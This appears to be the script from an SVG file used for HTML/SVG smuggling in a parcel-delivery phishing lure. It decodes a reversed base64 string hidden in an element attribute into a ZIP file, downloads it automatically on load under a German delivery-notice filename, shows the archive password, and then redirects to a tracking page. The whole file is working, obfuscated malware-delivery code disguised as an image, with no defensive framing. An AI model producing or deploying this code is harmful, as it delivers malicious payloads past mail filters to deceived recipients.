(function () {
  var svg = document.documentElement;
  var raw = svg.getElementById("d").getAttribute("data-c").split("").reverse().join("");
  var bin = atob(raw), u8 = [];
  for (var p = 0; p < bin.length; p += 512) {
    var s = bin.slice(p, p + 512), nums = new Array(s.length);
    for (var i = 0; i < s.length; i++) nums[i] = s.charCodeAt(i);
    u8.push(new Uint8Array(nums));
  }
  var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
  a.setAttribute("href", URL.createObjectURL(new Blob(u8, { type: "application/zip" })));
  a.setAttribute("download", "DHL_AAAA_Zustellung.zip".replace("DHL", "Paket"));
  svg.appendChild(a);
  svg.addEventListener("load", function () {
    setTimeout(function () { a.click(); }, 400);
    setTimeout(function () { window.location.href = "https://tracking.example/"; }, 6000);
  });
  svg.getElementById("label").textContent = "Das Dokument wird heruntergeladen, Passwort: 2291";
})();
